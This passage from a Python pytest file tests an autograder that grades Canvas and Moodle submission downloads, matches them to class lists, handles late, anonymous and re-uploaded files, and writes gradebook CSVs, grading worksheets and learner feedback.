                          "dijkstraedsger": "stub"})
    assert rows["turingalan"]["identity"]["late"] is True and rows["lovelaceada"]["identity"]["late"] is False
    assert rows["hoppergrace"]["challenges"][0]["origin"].endswith("main-1.py")
    grades = {row[0]: row for row in _read_csv(out / "grades.csv")[1:]}
    assert grades["turingalan"][8] == "late" and grades["lovelaceada"][8] == "on time"
    # The instructor learns which of the learner's uploads was graded, and why that one.
    assert ("hoppergrace_203_9003_main-1.py was graded, as the latest upload: an LMS numbers a file uploaded again"
            in grades["hoppergrace"][9]), grades["hoppergrace"]
    assert "latest upload" not in grades["lovelaceada"][9]
    canvas = _read_csv(out / "gradebook-canvas.csv")
    by_id = {row[1]: row for row in canvas[2:]}
    assert set(by_id) == {"201", "202", "203", "204"}
    assert float(by_id["201"][5]) == MAX and float(by_id["204"][5]) == 0
    # Canvas's own gradebook export as the class list: its Points Possible row and test student are not people.
    class_list = tmp_path / "canvas_export.csv"
    class_list.write_text('Student,ID,SIS User ID,SIS Login ID,Section,Backprop (77)\n'
                          '    Points Possible,,,,,18\n"Lovelace, Ada",201,S1,ada,Section A,\n'
                          '"Turing, Alan",202,S2,alan,Section B,\n"Hopper, Grace",203,S3,grace,Section A,\n'
                          '"Dijkstra, Edsger",204,S4,edsger,Section B,\n"Student, Test",999,,,Section A,\n')
    completed, rows = _report(roster, tmp_path / "named", "--class-list", class_list, "--gradebook", "canvas")
    _assert_graded(rows, {"Lovelace, Ada": "full", "Turing, Alan": "planted", "Hopper, Grace": "full",
                          "Dijkstra, Edsger": "stub"})
    assert "No entry in the roster" not in completed.stderr and "Not on the class list" not in completed.stderr
    assert f"The class list {class_list} names Canvas's Test Student on row 7 (ID 999), so that row was left out" \
        in completed.stderr
    named = {row[0]: row for row in _read_csv(tmp_path / "named" / "gradebook-canvas.csv")[2:]}
    assert named["Turing, Alan"][:5] == ["Turing, Alan", "202", "S2", "alan", "Section B"]
    # Said once: a run that reads the folder's class list again (after a late submission, say) does not repeat it.
    completed, _ = _report(roster, tmp_path / "named", "--gradebook", "canvas")
    assert f"The class list {class_list.resolve()}, given to an earlier run into this folder, was used again" \
        in completed.stderr
    assert "Test Student" not in completed.stderr, completed.stderr


def test_canvas_grades_go_into_the_assignment_of_canvas_s_gradebook_export_that_names_the_challenge(tmp_path):
    """Canvas finds an assignment by the (id) ending its column's title; any other title makes a new assignment."""
    roster, sources = tmp_path / "roster", _sources()
    roster.mkdir()
    for name, user, kind in (("lovelaceada", 201, "full"), ("turingalan", 202, "planted"), ("hoppergrace", 203,
                                                                                              "stub")):
        (roster / f"{name}_{user}_{9000 + user}_main.py").write_text(sources[kind])
    class_list = tmp_path / "canvas_export.csv"
    # A quiz and a week's reading of the same number are not the challenge; computed columns are no assignment.
    class_list.write_text("Student,ID,SIS User ID,SIS Login ID,Section,Quiz 3 (4400),Challenge 3: activations (4521),"
                          "Week 3 reading (4600),Current Score,Final Score\n"
                          "    Points Possible,,,,,5.00,10.00,2.00,(read only),(read only)\n"
                          '"Lovelace, Ada",201,S1,ada,A,,10.00,,,\n"Turing, Alan",202,S2,alan,A,,,,,\n'
                          '"Hopper, Grace",203,S3,grace,A,4,EX,,,\n')
    out = tmp_path / "out"
    completed, rows = _report(roster, out, "--class-list", class_list, "--gradebook", "canvas")
    # The one grade held that the file changes is warned of, in the summary and on the class page.
    replaced = ("gradebook-canvas.csv puts challenge_3_activations's grades into Challenge 3: activations (4521), "
                "whose column in the class list holds another grade for 1 of the learners it grades (Hopper, Grace: "
                "EX (excused) becomes 0): importing the file replaces it.")
    assert replaced in " ".join(completed.stderr.split())
    assert replaced in html.unescape((out / "index.html").read_text(encoding="utf-8"))
    canvas = _read_csv(out / "gradebook-canvas.csv")
    assert canvas[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "Challenge 3: activations (4521)"]
    assert canvas[1][5] == "10", "the assignment's own points, which the import would otherwise change"
    by_id = {row[1]: row[5] for row in canvas[2:]}
    assert by_id["201"] == "10" and by_id["203"] == "0"
    assert float(by_id["202"]) == round(rows["Turing, Alan"]["total"] / MAX * 10, 2)
    assert ("gradebook-canvas.csv holds 3 learners. Its grades go into Challenge 3: activations (4521) (scaled to its "
            "10 points), the assignment of the Canvas gradebook export given as class list, which Canvas's import "
            "updates.") in completed.stderr


def test_a_canvas_gradebook_has_a_column_only_for_the_challenges_graded_and_says_they_are_new_assignments(tmp_path):
    roster, sources = tmp_path / "roster", _sources()
    for name, kind in (("ada", "full"), ("alan", "planted")):
        write_learner(roster, name, {f"challenges/{CHALLENGE}/main.py": sources[kind].encode()}, False)
    class_list = tmp_path / "canvas_export.csv"
    class_list.write_text("Student,ID,SIS User ID,SIS Login ID,Section,Homework 1 (4401)\n"
                          "    Points Possible,,,,,10.00\nada,201,S1,ada,A,\nalan,202,S2,alan,A,\n")
    out = tmp_path / "out"
    completed = run_grade("report", roster, "--out", out, "-j", "1", "--class-list", class_list, "--gradebook",
                          "canvas", timeout=600)
    assert completed.returncode == 0, completed.stderr[-3000:]
    canvas = _read_csv(out / "gradebook-canvas.csv")
    assert canvas[0][5:] == ["NNFS 3: Activation functions"] and canvas[1][5:] == ["11"]
    assert [row[5] for row in canvas[2:]][0] == "11"
    assert ("Canvas's import will create a new assignment for each of its columns NNFS 3: Activation functions (11 "
            "points).") in completed.stderr
    assert "No column for 17 challenges nobody in it has a grade of" in completed.stderr


def test_an_assignment_s_title_names_the_challenge_it_names_best_and_no_other():
    from grader.classroom.lms_gradebooks import canvas_assignments

    challenges = [type("Challenge", (), {"name": name, "number": number, "title": title})()
                  for number, name, title in ((1, "challenge_1_forward_pass", "The forward pass"),
                                              (3, "challenge_3_activations", "Activation functions"),
                                              (7, "challenge_7_training", "Training and validation"),
                                              (10, "challenge_10_model", "The Model object"),
                                              (13, "challenge_13_regularized_training", "Regularisation that shows"))]
    paired, ambiguous = canvas_assignments(challenges, [
        ("Quiz 1 (1)", 5.0), ("NNFS-10 (2)", 20.0), ("Week 5: regularized training (3)", 13.0),
        ("Challenge 1 and Challenge 3 (4)", 8.0), ("Activation Functions (5)", None), ("Quiz 3 (6)", 10.0),
        ("Challenge 7 (7)", 12.0)])
    assert paired == {"challenge_3_activations": ("Activation Functions (5)", None),
                      "challenge_7_training": ("Challenge 7 (7)", 12.0), "challenge_10_model": ("NNFS-10 (2)", 20.0),
                      "challenge_13_regularized_training": ("Week 5: regularized training (3)", 13.0)}
    assert ambiguous == {}
    paired, ambiguous = canvas_assignments(challenges[1:2], [("Challenge 3 (1)", 10.0), ("NNFS 3 (2)", 11.0)])
    assert paired == {} and ambiguous == {"challenge_3_activations": ["Challenge 3 (1)", "NNFS 3 (2)"]}


def test_canvas_online_text_anonymous_grading_and_a_browser_renamed_upload(tmp_path):
    """instructure/canvas-lms lib/content_zipper.rb: an online text entry is <lastfirst>_<user id>_text.html, and under
    anonymous grading anon_<anonymous id> stands for <lastfirst>_<user id>, after LATE_ where late."""
    roster, sources = tmp_path / "roster", _sources()
    roster.mkdir()
    (roster / "lovelaceada_201_9001_main (1).py").write_text(sources["full"])
    (roster / "textted_202_text.html").write_text("<p>def sigmoid(x): ...</p>")
    (roster / "textted_LATE_203_text.html").write_text("<p>x</p>")
    (roster / "anon_Xy7zQ_9004_main.py").write_text(sources["planted"])
    (roster / "LATE_anon_Ab3dE_9005_main.py").write_text(sources["stub"])
    (roster / "LATE_anon_Ab3dE_9006_main-1.py").write_text(sources["full"])
    (roster / "anon_Qw9rT_text.html").write_text("<p>x</p>")
    out = tmp_path / "out"
    _, rows = _report(roster, out, "--gradebook", "canvas")
    assert sorted(rows) == ["anon_Ab3dE", "anon_Qw9rT", "anon_Xy7zQ", "lovelaceada", "textted"], sorted(rows)
    _assert_graded(rows, {"lovelaceada": "full", "anon_Xy7zQ": "planted", "anon_Ab3dE": "full"})
    assert rows["anon_Ab3dE"]["identity"]["late"] is True and rows["anon_Ab3dE"]["identity"]["anonymous_id"] == "Ab3dE"
    assert rows["anon_Xy7zQ"]["identity"]["late"] is False
    every = json.loads((out / "results.json").read_text())["learners"]
    assert len(every) == 6, [row["entry"] for row in every]
    texts = [row for row in every if row["learner"] in ("textted", "anon_Qw9rT")]
    assert len(texts) == 3 and all(row["total"] is None and "is online text, which holds no file to grade"
                                   in row["problem"] for row in texts), texts
    assert {row["identity"].get("lms_id") for row in texts} == {"202", "203", None}


@pytest.mark.parametrize("listed", [True, False], ids=["class-list", "no-class-list"])
def test_an_anonymous_canvas_download_is_said_to_be_one_and_the_class_list_is_not_blamed(tmp_path, listed):
    """No class list can match anon_<id> files: the summary says the download is anonymous and how to get names,
    not that the class list may be another course's, nor to pass the class list given already."""
    roster, sources = tmp_path / "roster", _sources()
    roster.mkdir()
    (roster / "anon_Xy7zQ_9004_main.py").write_text(sources["full"])
    (roster / "anon_Ab3dE_9005_main.py").write_text(sources["planted"])
    class_list = tmp_path / "canvas_export.csv"
    class_list.write_text('Student,ID,SIS User ID,SIS Login ID,Section,Activations (77)\n'
                          '    Points Possible,,,,,11\n"Lovelace, Ada",201,S1,ada,Section A,\n')
    completed, rows = _report(roster, tmp_path / "out", *(["--class-list", class_list] if listed else []),
                              "--gradebook", "canvas")
    _assert_graded(rows, {"anon_Xy7zQ": "full", "anon_Ab3dE": "planted"})
    said = " ".join(completed.stderr.split())
    assert ("The download is of an assignment Canvas grades anonymously" in said) == listed, said
    # The statistics count no entry, as the class page's do, and the summary says why.
    assert (f"{CHALLENGE}: no learner of the class list has a file graded; 2 entries not counted" in said) == listed
    assert "another course" not in said and "run again with --class-list" not in said, said
    assert "No gradebook-canvas.csv was written" in said and not (tmp_path / "out" / "gradebook-canvas.csv").exists()
    assert "Anonymous grading hides whose each entry is" in said, said


def test_the_report_names_real_files_counts_in_the_singular_and_tells_namesakes_and_accented_names_apart(tmp_path):
    roster, sources = tmp_path / "roster", _sources()
    roster.mkdir()
    (roster / "brokenbea_1007_50007_work.zip").write_bytes(b"PK\x03\x04 not really a zip")
    (roster / "müllerzoë_1008_50008_main.py").write_text(sources["full"])
    (roster / "leesam_1010_50010_main.py").write_text(sources["full"])
    (roster / "leesam_1011_50011_main.py").write_text(sources["planted"])
    (roster / "strangerstan_1099_50099_main.py").write_text(sources["full"])
    class_list = tmp_path / "canvas_export.csv"
    class_list.write_text('Student,ID,SIS User ID,SIS Login ID,Section\n"Broken, Bea",1007,S1007,bea,A\n'
                          '"Müller, Zoë",1008,S1008,zoe,A\n"Lee, Sam",1010,S1010,slee,A\n"Lee, Sam",1011,S1011,samlee,A\n')
    out = tmp_path / "out"
    completed, rows = _report(roster, out, "--class-list", class_list)
    assert "Not on the class list: 1 entry (strangerstan_1099_50099_main.py)." in completed.stderr
    # The unreadable archive is named in the summary, and its cell says it was not graded.
    assert f"1 file that could not be read (Broken, Bea ({CHALLENGE}))" in completed.stderr, completed.stderr
    index = (out / "index.html").read_text()
    bea_row = next(row for row in index.split("<tr") if ">Broken, Bea</a>" in row)
    assert "<small>not graded</small>" in bea_row and "not graded" not in index.split(">Müller, Zoë</a>")[1][:1500]
    # And why, under her name, as an entry refused whole says it.
    said = _page_notes(out)["Broken, Bea"]
    assert any("brokenbea_1007_50007_work.zip is not a readable .zip archive" in note for note in said), said
    # Namesakes' rows show what tells them apart, the others' nothing more.
    assert index.count('>Lee, Sam</a> <span class="told-apart">S101') == 2 and '"told-apart">S1008' not in index
    grades = {row[0]: row for row in _read_csv(out / "grades.csv")[1:]}
    assert "brokenbea_1007_50007_work.zip is not a readable .zip archive" in grades["Broken, Bea"][-1]
    assert grades["Broken, Bea"][5] == "" and "brokenbea_1007:" not in grades["Broken, Bea"][-1]
    (bea,) = (out / "learners").glob("Broken-Bea-*.html")
    assert "nothing graded, of 11 points" in bea.read_text() and "0 / 11" not in bea.read_text()
    assert [page.name.rsplit("-", 1)[0] for page in (out / "learners").glob("M*.html")] == ["Muller-Zoe"]
    checks = _read_csv(out / "checks.csv")
    assert checks[0] == ["learner", "challenge", "check", "category", "status", "score", "mistake", "entry", "email",
                         "sid", "hidden"]
    sigmoid = {row[9]: row for row in checks[1:] if row[0] == "Lee, Sam" and row[2] == "sigmoid"}
    assert sigmoid["S1010"][4] == "passed" and sigmoid["S1011"][4] == "failed"
    assert sigmoid["S1011"][7] == "leesam_1011_50011_main.py"


def test_moodle_download_all_submissions_in_folders(tmp_path):
    roster, sources = tmp_path / "roster", _sources()
    for name, participant, kind in (("Ada Lovelace", 501, "full"), ("Alan Turing", 502, "planted"),
                                    ("Grace Hopper", 503, "stub")):
        write_learner(roster, f"{name}_{participant}_assignsubmission_file_", {"main.py": sources[kind].encode()},
                      False)
    # A learner not downloaded in a folder: Moodle then prefixes the file's own name.
    (roster / "Barbara Liskov_504_assignsubmission_file_main.py").write_text(sources["full"])
    class_list = tmp_path / "moodle_grades.csv"
    class_list.write_text("First name,Last name,ID number,Institution,Department,Email address\n"
                          "Ada,Lovelace,S1,,,ada@example.edu\nAlan,Turing,S2,,,alan@example.edu\n"
                          "Grace,Hopper,S3,,,grace@example.edu\nBarbara,Liskov,S4,,,barbara@example.edu\n")
    out = tmp_path / "out"
    _, rows = _report(roster, out, "--class-list", class_list, "--gradebook", "moodle")
    _assert_graded(rows, {"Ada Lovelace": "full", "Alan Turing": "planted", "Grace Hopper": "stub",
                          "Barbara Liskov": "full"})
    moodle = {row[1]: row for row in _read_csv(out / "gradebook-moodle.csv")[1:]}
    assert float(moodle["alan@example.edu"][3]) < MAX and moodle["alan@example.edu"][2] == "S2"


def _moodle_uploads(roster, learners):
    """Moodle's download folder of each (name, participant id, kind of _sources) in `learners`, its main.py in it."""
    sources = _sources()
    for name, participant, kind in learners:
        write_learner(roster, f"{name}_{participant}_assignsubmission_file", {"main.py": sources[kind].encode()},
                      False)


def _moodle_worksheet(path, maximum, people):
    """Moodle's grading worksheet at `path`, of (participant id, full name, e-mail) `people`, its Maximum Grade
    written as `maximum` is (a CSV cell)."""
    path.write_text('Identifier,"Full name","Email address",Status,Grade,"Maximum Grade"\n' + "".join(
        f'"Participant {participant}","{name}",{email},Submitted,,{maximum}\n' for participant, name, email in people))
    return path


def test_a_file_uploaded_again_to_moodle_is_graded_as_the_latest_upload_and_said_so(tmp_path):
    roster, sources = tmp_path / "roster", _sources()
    _moodle_uploads(roster, (("Ada Lovelace", 501, "planted"), ("Alan Turing", 502, "full")))
    (roster / "Ada Lovelace_501_assignsubmission_file" / "main (1).py").write_text(sources["full"])
    _, rows = _report(roster, tmp_path / "out")
    _assert_graded(rows, {"Ada Lovelace": "full", "Alan Turing": "full"})
    notes = {row[0]: row[-1] for row in _read_csv(tmp_path / "out" / "grades.csv")[1:]}
    assert "main (1).py was graded, as the latest upload" in notes["Ada Lovelace"], notes
    assert "found first" not in notes["Ada Lovelace"], notes


def test_moodle_4_download_folders_zips_online_text_and_the_grading_worksheet(tmp_path):
    """Moodle 4.x names a folder <Full Name>_<participant>_assignsubmission_<plugin>, with no trailing _ (the cited
    downloader.php); a learner's .zip upload in it is read, online text is the same learner's and holds no code."""
    roster, sources = tmp_path / "roster", _sources()
    _moodle_uploads(roster, (("Ada Lovelace", 501, "full"), ("Sam Lee", 502, "planted"), ("Sam Lee", 503, "stub")))
    zipped = roster / "Grace Hopper_504_assignsubmission_file"
    write_learner(zipped, "submission", {f"challenges/{CHALLENGE}/main.py": sources["full"].encode()}, True)
    for name, participant in (("Ada Lovelace", 501), ("Alan Turing", 505)):
        (roster / f"{name}_{participant}_assignsubmission_onlinetext").mkdir()
        (roster / f"{name}_{participant}_assignsubmission_onlinetext" / "onlinetext.html").write_text("<p>x = 1</p>")
    # Moodle's grading worksheet: its Identifier is the participant id of the download's names.
    worksheet = _moodle_worksheet(tmp_path / "worksheet.csv", "11.00", (
        (501, "Ada Lovelace", "ada@example.edu"), (502, "Sam Lee", "sam.lee@example.edu"),
        (503, "Sam Lee", "samuel.lee@example.edu"), (504, "Grace Hopper", "grace@example.edu"),
        (505, "Alan Turing", "alan@example.edu")))
    completed, rows = _report(roster, tmp_path / "out", "--class-list", worksheet)
    assert "Not on the class list" not in completed.stderr and "Matched by name alone" not in completed.stderr
    assert "No entry in the roster" not in completed.stderr
    every = json.loads((tmp_path / "out" / "results.json").read_text())["learners"]
    assert len(every) == 5, [row["entry"] for row in every]
    by_email = {row["identity"]["email"]: row for row in every}
    assert by_email["sam.lee@example.edu"]["total"] < MAX and by_email["samuel.lee@example.edu"]["total"] == 0
    assert by_email["sam.lee@example.edu"]["identity"]["participant"] == "502"
    _assert_graded(rows, {"Ada Lovelace": "full", "Grace Hopper": "full"})
    assert rows["Grace Hopper"]["challenges"][0]["origin"].endswith(
        "assignsubmission_file/submission.zip:challenges/challenge_3_activations/main.py")
    assert rows["Alan Turing"]["total"] is None and "is online text, which holds no file to grade" in \
        rows["Alan Turing"]["problem"]


def test_moodle_grades_are_scaled_to_the_maximum_grade_of_the_grading_worksheet_given_as_class_list(tmp_path):
    """Moodle reads an imported value on the grade item's own scale (100 unless set): 11 points of 11 would read
    11/100. The worksheet's Maximum Grade is that scale; a Total would only repeat the one challenge's column."""
    roster = tmp_path / "roster"
    _moodle_uploads(roster, (("Ada Lovelace", 501, "full"), ("Alan Turing", 502, "planted"),
                             ("Grace Hopper", 503, "stub")))
    worksheet = _moodle_worksheet(tmp_path / "Grades-Activations-77.csv", '"100,00"', (
        (501, "Ada Lovelace", "ada@example.edu"), (502, "Alan Turing", "alan@example.edu"),
        (503, "Grace Hopper", "grace@example.edu")))
    completed, rows = _report(roster, tmp_path / "out", "--class-list", worksheet, "--gradebook", "moodle")
    moodle = _read_csv(tmp_path / "out" / "gradebook-moodle.csv")
    assert moodle[0] == ["Full name", "Email address", "ID number", "NNFS 3: Activation functions"]
    by_email = {row[1]: row[3] for row in moodle[1:]}
    planted = rows["Alan Turing"]["total"]
    assert by_email["ada@example.edu"] == "100" and by_email["grace@example.edu"] == "0"
    assert float(by_email["alan@example.edu"]) == round(planted / MAX * 100, 2)
    assert len(by_email["alan@example.edu"].partition(".")[2]) <= 2, "Moodle shows 2 decimals"
    assert ("Its grades are out of 100, the Maximum Grade of the grading worksheet given as class list") \
        in completed.stderr
    # Without the worksheet, the summary says what the points are out of.
    class_list = tmp_path / "moodle_grades.csv"
    class_list.write_text("First name,Last name,Email address\nAda,Lovelace,ada@example.edu\n"
                          "Alan,Turing,alan@example.edu\nGrace,Hopper,grace@example.edu\n")
    completed, _ = _report(roster, tmp_path / "points", "--class-list", class_list, "--gradebook", "moodle")
    assert [row[3] for row in _read_csv(tmp_path / "points" / "gradebook-moodle.csv")[1:]] == ["11", f"{planted:g}",
                                                                                                "0"]
    assert ("Its grades are points, out of 11 for NNFS 3: Activation functions; set the Maximum grade of the grade "
            "item you map each column to to those points, or Moodle reads 11 of 11 as 11 of its default 100") \
        in completed.stderr


# Moodle's grading worksheet as "Download grading worksheet" writes it, in a language whose decimal separator is a
# comma: each row (participant id, full name, e-mail, Grade, Last modified (grade), Feedback comments).
WORKSHEET_HEADING = ["Identifier", "Full name", "Email address", "Status", "Grade", "Maximum Grade",
                     "Grade can be changed", "Last modified (submission)", "Last modified (grade)", "Feedback comments"]
WORKSHEET_ROWS = (
    (501, "Ada Lovelace", "ada@example.edu", "", "-", ""),
    (502, "Alan Turing", "alan@example.edu", "", "Tuesday, 4 March 2025, 9:15 AM", "Seen in the lab"),
    (503, "Grace Hopper", "grace@example.edu", "", "-", ""),
    (504, "Barbara Liskov", "barbara@example.edu", "35,50", "Monday, 3 March 2025, 11:00 AM", "<p>Marked by hand</p>"),
    (505, "Ken Thompson", "ken@example.edu", "", "-", ""))


def _grading_worksheet(path, rows=WORKSHEET_ROWS, late=()):
    """The worksheet of `rows`, each submitted for grading: late, as Moodle's Status says, where its participant id
    is in `late`."""
    with open(path, "w", newline="", encoding="utf-8") as file:
        table = csv.writer(file)
        table.writerow(WORKSHEET_HEADING)
        for participant, name, email, grade, modified, feedback in rows:
            status = "Submitted for grading" + (" - 1 day 2 hours late" if participant in late else "")
            table.writerow([f"Participant {participant}", name, email, status, grade, "100,00", "Yes",
                            "Monday, 3 March 2025, 10:00 AM", modified, feedback])
    return path


def test_the_grading_worksheet_given_as_class_list_comes_back_filled_in_for_moodles_upload_and_again_on_a_rerun(
        tmp_path):
    """Moodle's Upload grading worksheet reads Identifier, Grade and Last modified (grade) by their headings, the
    Grade in the teacher's decimal separator, and skips a row graded in Moodle since its Last modified (grade)
    (mod/assign/feedback/offline, cited in grader/classroom/moodle_worksheet.py): every row and column is as
    downloaded but the Grade of a learner graded, and the Feedback comments where Moodle held none."""
    roster = tmp_path / "roster"
    _moodle_uploads(roster, (("Ada Lovelace", 501, "full"), ("Alan Turing", 502, "planted"),
                             ("Grace Hopper", 503, "stub")))
    (roster / "Ken Thompson_505_assignsubmission_onlinetext").mkdir()
    (roster / "Ken Thompson_505_assignsubmission_onlinetext" / "onlinetext.html").write_text("<p>x = 1</p>")
    # Grace Hopper's Grade was entered in Moodle before the download: the one the grader gives replaces it.
    held = [(503, "Grace Hopper", "grace@example.edu", "50,00", "-", "") if row[0] == 503 else row
            for row in WORKSHEET_ROWS]
    worksheet = _grading_worksheet(tmp_path / "Grades-NNFS-Challenge 3-77.csv", rows=held, late=(502,))
    out = tmp_path / "out"
    completed, rows = _report(roster, out, "--class-list", worksheet, "--gradebook", "moodle")
    replaced = ("WARNING: grading-worksheet-moodle.csv and gradebook-moodle.csv give 1 learner another grade than the "
                "one the grading worksheet given as class list holds (Grace Hopper: 50,00 becomes 0): uploading either "
                "replaces it.")
    assert replaced in " ".join(completed.stderr.split())
    assert replaced.removeprefix("WARNING: ") in html.unescape((out / "index.html").read_text(encoding="utf-8"))
    # The Status column says who submitted late: grades.csv's late column says so too.
    grades_csv = {row["learner"]: row for row in csv.DictReader(open(out / "grades.csv", encoding="utf-8-sig"))}
    assert grades_csv["Alan Turing"]["late"] == "late" and grades_csv["Ada Lovelace"]["late"] == "on time"
    pages = {path.name.rsplit("-", 1)[0]: path.read_text(encoding="utf-8") for path in (out / "learners").glob("*.html")}
    assert "Submitted late" in pages["Alan-Turing"] and "Submitted late" not in pages["Ada-Lovelace"]
    downloaded = _read_csv(worksheet)
    filled = _read_csv(out / "grading-worksheet-moodle.csv")
    assert filled[0] == WORKSHEET_HEADING and len(filled) == len(downloaded)
    grade, modified, feedback = (WORKSHEET_HEADING.index(column) for column in
                                 ("Grade", "Last modified (grade)", "Feedback comments"))
    for before, after in zip(downloaded[1:], filled[1:]):
        assert [cell for column, cell in enumerate(after) if column not in (grade, feedback)] == \
            [cell for column, cell in enumerate(before) if column not in (grade, feedback)]
        assert after[modified] == before[modified]
    by_name = {row[1]: row for row in filled[1:]}
    planted = rows["Alan Turing"]["total"]
    assert by_name["Ada Lovelace"][grade] == "100" and by_name["Grace Hopper"][grade] == "0"
    assert by_name["Alan Turing"][grade] == f"{round(planted / MAX * 100, 2):g}".replace(".", ",")
    assert "," in by_name["Alan Turing"][grade], "the worksheet's own decimal separator"
    # Nothing graded keeps the Grade and the feedback downloaded: no submission, or online text alone.
    assert by_name["Barbara Liskov"][grade] == "35,50" and by_name["Barbara Liskov"][feedback] == \
        "<p>Marked by hand</p>"
    assert by_name["Ken Thompson"][grade] == "" and by_name["Ken Thompson"][feedback] == ""
    assert by_name["Ada Lovelace"][feedback] == "11 of 11 points: 11 of 11 checks passed."
    assert by_name["Grace Hopper"][feedback].startswith("0 of 11 points: ")
    # Comments written in Moodle are kept: the upload would replace them.
    assert by_name["Alan Turing"][feedback] == "Seen in the lab"
    assert ("grading-worksheet-moodle.csv is the grading worksheet given as class list, its Grade (scaled to its "
            "Maximum Grade of 100, with a decimal comma as its own numbers have) and Feedback comments filled in for 3 "
            "of its 5 rows") in completed.stderr
    assert ("2 rows keep the Grade downloaded, no grade of this run's going there: 1 with no submission (Barbara "
            "Liskov); 1 with nothing that could be graded (Ken Thompson).") in completed.stderr
    assert ("1 row already held Feedback comments, which it keeps as written in Moodle; each learner's page in "
            "learners/ says what the checks found.") in completed.stderr
    # A regrade of one learner into the folder fills the remembered worksheet in again.
    (roster / "Alan Turing_502_assignsubmission_file" / "main.py").write_text(_sources()["full"])
    _report(roster, out, "--learner", "alan")
    again = {row[1]: row for row in _read_csv(out / "grading-worksheet-moodle.csv")[1:]}
    assert again["Alan Turing"][grade] == "100" and again["Alan Turing"][modified] == "Tuesday, 4 March 2025, 9:15 AM"
    assert again["Barbara Liskov"][grade] == "35,50"


@pytest.mark.parametrize("status, late", [
    ("Submitted for grading - 1 day 2 hours late", True), ("Submitted for grading - Graded - 3 mins late", True),
    ("Submitted for grading", False), ("Submitted for grading - 2 days early", False), ("No submission", None),
    ("Draft (not submitted)", None), ("Enviado para calificar - 1 día después", None)])
def test_the_status_of_moodle_s_grading_worksheet_says_who_submitted_late(tmp_path, status, late):
    """Moodle's grading table writes a late submission's Status with "{time} late" (mod/assign lang/en:
    submittedlateshort); in another language, or with nothing submitted, whether it was late is not known."""
    from grader.classroom.identity import read_class_list

    path = tmp_path / "worksheet.csv"
    path.write_text(f"Identifier,Full name,Email address,Status,Grade,Last modified (grade)\n"
                    f"Participant 501,Ada Lovelace,ada@example.edu,{status},,-\n", encoding="utf-8")
    (person,) = read_class_list(path).people
    assert person.late is late and person.identity().get("late") is late


@pytest.mark.parametrize("maximum", ["Maximum Grade", "Maximum grade", "maximum grade"])
def test_a_worksheet_s_decimal_comma_is_read_from_its_maximum_grade_whatever_the_case_of_its_heading(maximum):
    """The Maximum Grade the grades are scaled to and the decimal separator they are written with come from the
    same column: one headed in sentence case ("Maximum grade") gives both, as its Identifier is found in any case."""
    from grader.classroom.moodle_worksheet import read_worksheet

    worksheet = read_worksheet([["Identifier", "Full name", "Grade", maximum, "Last modified (grade)"],
                                ["Participant 4012", "Ada Lovelace", "", "10,00", "-"]])
    assert worksheet.decimal_comma and worksheet.number("7.27") == "7,27"
    assert worksheet.missing == [] and worksheet.grade == 2


def test_the_feedback_comments_say_why_no_check_could_run_and_which_check_ran_out_of_time(tmp_path):
    """The Feedback comments are all a learner reads in Moodle: a 0 for a file that holds no code, one Python cannot
    read, or the stub as shipped says which, and points lost to a check that ran out of time say which check, as
    grades.csv's notes do for the instructor."""
    roster, sources = tmp_path / "roster", _sources()
    _moodle_uploads(roster, (("Ada Lovelace", 501, "full"), ("Grace Hopper", 503, "stub")))
    files = {"Alan Turing_502": sources["full"].replace(
                 '    """x where x > 0, alpha * x elsewhere, for an array of any shape."""\n',
                 '    """x where x > 0, alpha * x elsewhere, for an array of any shape."""\n    while True:\n'
                 '        pass\n', 1),
             "Barbara Liskov_504": sources["full"].replace("def softmax(inputs):", "def softmax(inputs)", 1),
             "Ken Thompson_505": "",
             "Dennis Ritchie_506": "from reference import activations\n" + sources["full"]}
    for folder, source in files.items():
        write_learner(roster, f"{folder}_assignsubmission_file", {"main.py": source.encode()}, False)
    assert "while True" in files["Alan Turing_502"] and "def softmax(inputs)\n" in files["Barbara Liskov_504"]
    worksheet = _grading_worksheet(tmp_path / "Grades-NNFS-Challenge 3-77.csv", [
        (participant, name, email, "", "-", "") for participant, name, email, *_ in WORKSHEET_ROWS]
        + [(506, "Dennis Ritchie", "dmr@uni.edu", "", "-", "")])
    out = tmp_path / "out"
    completed, _ = _report(roster, out, "--class-list", worksheet, "--gradebook", "moodle",
                           cwd=_short_checks(tmp_path / "course"))
    # The summary names whom to look at first, and why where one cause tells it.
    unread = sources["full"].splitlines().index("def softmax(inputs):") + 1
    assert ("Worth a look: 1 file holding no code (Ken Thompson); 2 files raising at every check reached (a syntax "
            "error, say, an import the grader refuses, or none of the names the checks look for: another challenge's "
            "file?), the cause after each name where one tells it (Barbara Liskov: SyntaxError at line "
            f"{unread}; Dennis Ritchie); 1 file with a check that ran out of time (Alan Turing); their pages say "
            "why.") in completed.stderr
    assert f"· error: SyntaxError at line {unread}\"" in (out / "index.html").read_text(encoding="utf-8")
    column = WORKSHEET_HEADING.index("Feedback comments")
    feedback = {row[1]: row[column] for row in _read_csv(out / "grading-worksheet-moodle.csv")[1:]}
    line = sources["full"].splitlines().index("def softmax(inputs):") + 1
    assert feedback["Barbara Liskov"] == (f"0 of {MAX} points: your file could not be imported, so no check could "
                                          f"run. Python could not read it: SyntaxError at line {line}.")
    assert feedback["Ken Thompson"] == (f"0 of {MAX} points: no check could run, as main.py holds no code: was the "
                                        "work saved in it?")
    assert feedback["Grace Hopper"] == (f"0 of {MAX} points: not started, as main.py is the stub as shipped: fill in "
                                        "its TODOs.")
    looped = re.fullmatch(r"(\d+) of 11 points: \1 of 11 checks passed\. The check \"leaky_relu\(inputs\) keeps "
                          r"positive values and scales negative ones by 0\.01\" ran out of time at line (\d+): it may "
                          r"loop forever\.", feedback["Alan Turing"])
    assert looped, feedback["Alan Turing"]
    assert files["Alan Turing_502"].splitlines()[int(looped[2]) - 1].strip() == "while True:"
    assert feedback["Ada Lovelace"] == f"{MAX} of {MAX} points: {MAX} of {MAX} checks passed."
    notes = {row[0]: row[-1] for row in _read_csv(out / "grades.csv")[1:]}
    assert notes["Alan Turing"] == (f'{CHALLENGE}: a check ran out of time: "leaky_relu(inputs) keeps positive values '
                                    f'and scales negative ones by 0.01" at line {looped[2]}: while True:')
    assert notes["Ada Lovelace"] == ""
    # A file the grader refuses to run says so, where the learner reads and in the instructor's notes.
    assert feedback["Dennis Ritchie"] == (f"0 of {MAX} points: no check could pass. Your file imports reference (line "
                                          "1).")
    assert notes["Dennis Ritchie"].startswith(f"{CHALLENGE}: no check could pass: Your file imports reference (line "
                                              "1). Submissions may not use the grader's reference"), notes


def test_the_feedback_names_an_error_or_a_hang_at_import_and_a_check_left_no_time_by_the_others():
